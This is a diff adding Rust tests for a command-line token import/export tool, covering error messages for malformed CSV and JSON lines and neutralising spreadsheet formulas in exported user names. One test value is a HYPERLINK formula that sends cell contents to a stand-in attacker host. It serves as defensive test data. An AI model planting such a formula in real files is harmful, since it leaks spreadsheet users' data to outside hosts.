@@ -120,12 +120,69 @@ fn every_refused_line_is_named_and_the_others_are_kept() {
     let users = place.run(&["user", "list", "--json"]).succeeded().json();
     let names: Vec<_> = users.iter().map(|user| user["user"].as_str().unwrap()).collect();
     assert_eq!(names, ["alice", "eve, the \"last\""]);
-    for bad in ["token\n", "user,token,password\n", ""] {
+    for (bad, found) in [
+        ("token\n", "the column user is missing"),
+        ("user,token,password\n", "column 3 is `password`"),
+        ("", "the file is empty"),
+        ("user;methods;token\n", "the first line is separated by semicolons"),
+        ("user\tmethods\ttoken\n", "the first line is separated by tabs"),
+        ("u\0s\0e\0r\0", "the file is UTF-16"),
+    ] {
         place.write("bad.csv", bad);
-        place.run(&["import", "bad.csv"]).exited(2).says("must name the columns");
+        let ran = place.run(&["import", "bad.csv"]).exited(2).says(found);
+        ran.says("must name the columns, separated by commas: user");
     }
     place.run(&["import", "tokens"]).exited(2).says("--format");
     place.run(&["import", "nowhere.csv"]).exited(2);
+}
+
+#[test]
+fn a_head_in_any_case_with_blanks_is_taken_and_a_name_with_blanks_is_not() {
+    let place = Place::new();
+    let (one, two) = (sha256("1"), sha256("2"));
+    let text = format!(
+        "Methods, User, SHA256 ,Slot\nGET,alice,{one}, Primary\nGET, bob,{two},\n\
+         GET;carol,{two}\n"
+    );
+    place.write("tokens.csv", &text);
+    let ran = place.run(&["import", "tokens.csv"]).exited(8).says("1 imported");
+    let ran = ran.says("line 3: the user's name begins or ends with a blank");
+    ran.says("line 4: the line has 2 fields, separated by commas").says("2 lines were refused");
+    let users = place.run(&["user", "list", "--json"]).succeeded().json();
+    assert_eq!((users.len(), &users[0]["user"]), (1, &"alice".into()));
+}
+
+#[test]
+fn a_line_of_json_that_is_no_row_names_the_field() {
+    let place = Place::new();
+    let digest = sha256("1");
+    for (line, found) in [
+        (format!("{{\"User\":\"a\",\"sha256\":\"{digest}\"}}"), "there is no field `User`"),
+        (format!("{{\"sha256\":\"{digest}\"}}"), "the field user is missing"),
+        ("{\"user\":\"a\",\"token\":5}".to_owned(), "the field token is no text"),
+        ("{\"user\":\"a\",\"methods\":\"GET\"}".to_owned(), "methods is no list of texts"),
+        ("{\"user\":\"a\",\"user\":\"b\"}".to_owned(), "a field stands twice"),
+        ("{\"user\"".to_owned(), "the line is not JSON"),
+    ] {
+        place.write("tokens.jsonl", &line);
+        let ran = place.run(&["import", "tokens.jsonl"]).exited(8).says(found);
+        ran.says("error: 1 line was refused");
+    }
+}
+
+#[test]
+fn an_exported_name_is_a_formula_to_no_spreadsheet() {
+    let place = Place::new();
+    for name in ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1)"] {
+        place.run(&["user", "grant", "--", name, "GET"]).succeeded();
+    }
+    place.run(&["user", "grant", "\u{ff1d}1", "GET"]).succeeded();
+    let csv = place.run(&["export", "--format", "csv"]).succeeded();
+    for line in csv.out.lines().skip(1) {
+        assert!(line.trim_start_matches('"').starts_with('\''), "{line}");
+    }
+    let json = place.run(&["export"]).succeeded();
+    assert!(json.json().iter().any(|account| account["user"] == "+1+1"), "{json:?}");
 }
 
 #[test]
